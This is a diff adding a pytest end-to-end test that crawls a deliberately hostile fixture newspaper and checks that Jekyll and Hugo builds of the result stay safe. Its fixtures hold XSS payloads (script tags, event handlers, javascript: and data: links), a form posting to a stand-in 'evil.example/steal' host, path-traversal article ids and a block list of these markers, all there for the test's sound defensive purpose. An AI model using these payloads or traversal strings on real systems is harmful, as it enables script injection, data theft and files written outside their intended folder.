@@ -1,0 +1,237 @@
+"""End to end: a newspaper whose every field is hostile builds safely with Jekyll and Hugo.
+
+The fixture site's titles, authors and sources carry YAML and Markdown
+specials, very long strings, emoji and bidi controls; its bodies carry
+scripts, handlers, frames, forms, Liquid and Hugo shortcodes; its article
+ids try to climb out of the archive. The crawl runs as a subprocess, then the
+real ``jekyll build`` and ``hugo`` build the result.
+"""
+
+from __future__ import annotations
+
+import html
+import os
+import re
+import shutil
+import subprocess
+import uuid
+from pathlib import Path
+
+import pytest
+import yaml
+
+from newscrawl.demo.server import serve
+from tests.e2e.sitegen import FixtureSite, story
+from tests.helpers import read_post, run_cli
+
+pytestmark = pytest.mark.e2e
+
+SLUG = "ceshiribao"
+TOKEN = uuid.uuid4().hex[:10]  # names the files an escaping id would create
+
+TITLES = [
+    '他说："改革不停步"：#1 号文件 & 重点 | 结果 > 预期!',
+    "- 以短横线开头的标题：看起来像列表项",
+    "* 以星号开头的标题 *强调* 与 **加粗**",
+    "& 以和号开头 &amp; 实体 &lt;b&gt; 不是标签",
+    "! 以感叹号开头的标题 ![图](x.png)",
+    "| 以竖线开头 | 像表格 |",
+    "> 以大于号开头的标题，像引用",
+    "标题里有\t制表符\t和 # 井号",
+    "超长标题" + "很长" * 150 + "结尾",
+    "🎉 庆祝发射成功 🚀 点赞 👍🏽 家庭 👨‍👩‍👧",
+    "双向控制符\u202e文字倒序\u202c测试标题",
+    "模板语法 {{ site.title }} 与 {% include x %} 出现在标题里",
+    "'单引号' 与 `反引号` @提及 %百分号 ~波浪 null: true",
+]
+AUTHORS = ['"张三"', "李四: 王五", "赵六 #2", "- 钱七", "孙八 & 周九", "吴十!", "郑一 | 冯二",
+           "陈三 >", "楚四\t卫五", "长" * 120, "蒋六🎉", "沈\u202e七", "韩八 {{ x }}"]
+SOURCES = ['"人民日报"', "新华社: 北京", "# 江西日报", "- 光明日报", "* 经济日报", "工人日报 & 农民日报",
+           "! 中国青年报", "| 法治日报", "> 科技日报", "中国\t日报", "源" * 120, "🎉 文汇报", "解\u202e放日报"]
+
+LITERAL_PARAGRAPHS = [
+    "Liquid 变量原样显示：{{ site.title }} 以及 {{ page.content }} 都不应被替换。",
+    "Liquid 标签原样显示：{% include x %} 和 {% assign a = 1 %} 不应执行。",
+    "未闭合的原样块：{% raw %} 之后的文字也应正常显示，构建不能失败。",
+    "多余的结束标签：{% endraw %} 出现在正文中同样应当原样显示。",
+    "Hugo 短代码原样显示：{{< youtube x >}} 以及 {{% x %}} 都不应被展开。",
+    "文字中提到 <script>alert(1)</script> 这样的字样，应当作为文字显示给读者。",
+]
+HOSTILE_MARKUP = """<p>配图说明文字，图片加载失败时不应执行脚本。<img src="http://paper.example/p.jpg" onerror="alert('e1')" alt="配图"></p>
+    <script>alert('e2');document.write('pwned')</script>
+    <p>请点击<a href="javascript:alert('e3')">这里</a>或<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">这里</a>查看详情内容。</p>
+    <iframe src="http://evil.example/frame.html"></iframe>
+    <form action="http://evil.example/steal"><input name="q" value="x"><button>提交</button></form>
+    <svg onload="alert('e6')"><circle r="1"/></svg>
+    <p onclick="alert('e4')" style="background:url(javascript:alert('e5'))">带有事件处理器的段落，文字本身应当保留下来给读者阅读。</p>
+    <object data="http://evil.example/movie.swf"></object><embed src="http://evil.example/e.swf">"""
+FORBIDDEN = ["<script", "onerror", "onclick", "onload", "javascript:", "data:text/html", "<iframe",
+             "<object", "<embed", "<form", "evil.example", "pwned"]
+ESCAPING_IDS = [
+    f"../../../../../../../../../../escape-{TOKEN}",
+    f"%2e%2e%2f%2e%2e%2f%2e%2e%2fescape2-{TOKEN}",
+    f"..%2F..%2F..%2Fescape3-{TOKEN}",
+    "x" * 400,
+    f"/etc/escape4-{TOKEN}",
+]
+
+
+def expected_title(title: str) -> str:
+    """Return the title as a post keeps it: whitespace runs (tabs) become one space."""
+    return re.sub(r"\s+", " ", title).strip()
+
+
+def hostile_site(root: Path) -> FixtureSite:
+    """Return the fixture site with one article per hostile title, all written."""
+    site = FixtureSite(root, per_page=6)
+    for n, title in enumerate(TITLES):
+        query = f"?id={ESCAPING_IDS[n]}" if n < len(ESCAPING_IDS) else f"?id=h{n}"
+        page = f"news/h{n}.html" if n != 6 else "news/" + "n" * 200 + ".html"
+        site.add_article(title, story(n) + LITERAL_PARAGRAPHS, published=f"2024-05-{n + 1:02d} 09:30",
+                         page=page, query=query, author=AUTHORS[n], source=SOURCES[n],
+                         raw_body=HOSTILE_MARKUP)
+    site.write()
+    return site
+
+
+def crawl_hostile(tmp_path: Path, fmt: str) -> tuple[Path, FixtureSite, list[str]]:
+    """Crawl the hostile site into a fresh archive; return it, the site and the files before."""
+    site = hostile_site(tmp_path / "site")
+    profiles = tmp_path / "profiles"
+    site.profile(profiles, id_pattern=r"[?&]id=([^&#]+)",
+                 selectors={"author": "span.author", "source": "span.source"})
+    out = tmp_path / "nested" / "deeper" / "archive"
+    workdir = tmp_path / "cwd"
+    workdir.mkdir()
+    before = all_files(tmp_path)
+    with serve(site.root) as server:
+        result = run_cli("crawl", SLUG, "--profiles-dir", str(profiles), "--out", str(out), "--format", fmt,
+                         "--base-url", "//news.example.org", "-s", f"NEWSCRAWL_BASE_URL_OVERRIDE={server.base_url}",
+                         "-s", "AUTOTHROTTLE_ENABLED=False", "-q", cwd=workdir)
+    assert result.returncode == 0, result.stderr[-3000:]
+    assert f"{len(TITLES)} created" in result.stderr, result.stderr[-3000:]
+    return out, site, before
+
+
+def all_files(folder: Path) -> set[str]:
+    """Return every file below ``folder``, relative to it."""
+    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() or p.is_symlink()}
+
+
+def assert_nothing_outside(tmp_path: Path, out: Path, before: set[str]) -> None:
+    """Assert the crawl wrote files only inside ``out``, and none named after an escaping id."""
+    archive = str(out.relative_to(tmp_path))
+    written = {f for f in all_files(tmp_path) - before if not f.startswith(archive + os.sep)}
+    assert written == set(), written
+    for folder in [out, *out.parents]:
+        strays = [p for p in folder.iterdir() if TOKEN in p.name] if os.access(folder, os.R_OK) else []
+        assert strays == [], strays
+
+
+def posts_by_title(posts_dir: Path) -> dict[str, tuple[Path, dict, str]]:
+    """Return every post keyed by its front matter title."""
+    found = {}
+    for path in sorted(posts_dir.glob("*.md")):
+        front, body = read_post(path)
+        found[front["title"]] = (path, front, body)
+    return found
+
+
+def check_posts(posts_dir: Path) -> dict[str, tuple[Path, dict, str]]:
+    """Assert every post's name is safe, its front matter parses and its body is inert."""
+    posts = posts_by_title(posts_dir)
+    assert len(posts) == len(TITLES)
+    for title, (path, front, body) in posts.items():
+        assert re.fullmatch(r"2024-05-\d\d-[A-Za-z0-9._-]+\.md", path.name), path.name
+        assert ".." not in path.name and len(path.name) <= 120, path.name
+        assert str(front["date"]).startswith(path.name[:10]), (path.name, front["date"])
+        for key in ("author", "source"):
+            value = front.get(key)
+            assert value is None or isinstance(value, (str, list)), (key, value)
+        for word in FORBIDDEN:
+            assert word not in body.lower(), (path.name, word)
+    return posts
+
+
+def visible_text(page: str) -> str:
+    """Return a built page's text as a reader sees it (tags dropped, entities decoded)."""
+    return html.unescape(re.sub(r"<[^>]+>", " ", page))
+
+
+def check_built_site(built: Path, pages: dict[str, Path], posts: dict) -> None:
+    """Assert each post page exists, shows the literal texts, and no article code reached the site."""
+    for title, page in pages.items():
+        assert page.is_file(), (title, page, sorted(p.name for p in page.parent.parent.rglob("*"))[:20])
+        text = page.read_text(encoding="utf-8")
+        seen = re.sub(r"\s+", " ", visible_text(text))
+        assert title in seen, title
+        for paragraph in LITERAL_PARAGRAPHS:
+            assert paragraph in seen, (title, paragraph)
+        assert "带有事件处理器的段落，文字本身应当保留下来给读者阅读。" in seen
+        _, front, _ = posts[title]
+        for key in ("author", "source"):
+            values = front.get(key)
+            for value in [values] if isinstance(values, str) else values or []:
+                assert re.sub(r"\s+", " ", value) in seen, (title, key, value)
+    for page in built.rglob("*"):
+        if page.suffix in (".html", ".xml", ".json", ".js") and page.is_file():
+            text = page.read_text(encoding="utf-8", errors="replace").lower()
+            for word in FORBIDDEN:
+                assert word not in text, (page, word)
+
+
+def build(cmd: list[str], cwd: Path) -> None:
+    """Run a site generator, skipping when it is not installed; assert it succeeds."""
+    if not shutil.which(cmd[0]):
+        pytest.skip(f"{cmd[0]} is not installed (.ci/run installs Debian's jekyll and hugo)")
+    done = subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, (done.stdout[-3000:], done.stderr[-3000:])
+
+
+@pytest.fixture(scope="module", params=["jekyll", "hugo"])
+def crawled(request, tmp_path_factory):
+    """Return (format, tmp folder, archive, files before the crawl) for each format."""
+    tmp = tmp_path_factory.mktemp(f"hostile-{request.param}")
+    out, _, before = crawl_hostile(tmp, request.param)
+    return request.param, tmp, out, before
+
+
+def posts_folder(fmt: str, out: Path) -> Path:
+    """Return the archive's posts folder for ``fmt``."""
+    return out / ("_posts" if fmt == "jekyll" else "content/posts")
+
+
+def test_no_file_is_written_outside_the_archive(crawled):
+    fmt, tmp, out, before = crawled
+    assert_nothing_outside(tmp, out, before)
+    escaped = sorted(p.name for p in posts_folder(fmt, out).iterdir())
+    assert len(escaped) == len(TITLES), escaped
+
+
+def test_every_post_is_safe_and_parses(crawled):
+    fmt, _, out, _ = crawled
+    check_posts(posts_folder(fmt, out))
+
+
+def test_front_matter_gives_back_the_exact_titles(crawled):
+    fmt, _, out, _ = crawled
+    titles = set(posts_by_title(posts_folder(fmt, out)))
+    assert titles == {expected_title(t) for t in TITLES}
+
+
+def test_site_builds_and_shows_the_literal_texts(crawled):
+    fmt, tmp, out, _ = crawled
+    site = tmp / f"site-{fmt}"
+    shutil.copytree(out, site)
+    posts = check_posts(posts_folder(fmt, site))
+    if fmt == "jekyll":
+        build(["jekyll", "build", "--quiet"], site)
+        built = site / "_site"
+        pages = {title: built / SLUG / "2024" / "05" / path.name[8:10] / (path.stem[11:] + ".html")
+                 for title, (path, _, _) in posts.items()}
+    else:
+        build(["hugo", "--quiet"], site)
+        built = site / "public"
+        pages = {title: built / "posts" / "2024" / "05" / path.name[8:10] / path.stem[11:] / "index.html"
+                 for title, (path, _, _) in posts.items()}
+    check_built_site(built, pages, posts)
